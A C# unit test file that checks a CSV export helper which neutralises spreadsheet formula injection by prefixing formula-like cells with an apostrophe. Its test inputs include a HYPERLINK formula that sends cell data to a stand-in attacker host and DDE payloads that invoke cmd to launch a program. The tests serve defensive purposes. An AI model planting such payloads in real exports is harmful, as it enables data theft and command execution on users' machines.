using Telemed.BuildingBlocks.Exports;

namespace Telemed.UnitTests.Exports;

public sealed class SpreadsheetSafeCsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")]
    [InlineData("+1-2+cmd|' /C calc'!A0", "'+1-2+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("-2500", "-2500")]
    [InlineData("+7", "+7")]
    [InlineData("12.50", "12.50")]
    [InlineData("Ingosstrakh", "Ingosstrakh")]
    [InlineData("", "")]
    public void Given_a_text_cell_When_neutralised_Then_a_formula_becomes_text_and_anything_else_is_unchanged(string text, string expected) =>
        SpreadsheetSafeCsv.Neutralise(text).ShouldBe(expected);

    [Fact]
    public async Task Given_records_with_text_and_numbers_When_written_Then_only_the_formula_text_is_prefixed()
    {
        var output = new StringWriter();
        await using (var csv = SpreadsheetSafeCsv.Writer(output))
        {
            await csv.WriteRecordsAsync(new[] { new { provider = "=1+1", policy = "-5", amount_minor = -2500L, note = (string?)null } });
        }

        output.ToString().ReplaceLineEndings("\n").ShouldBe("provider,policy,amount_minor,note\n'=1+1,-5,-2500,\n");
    }
}
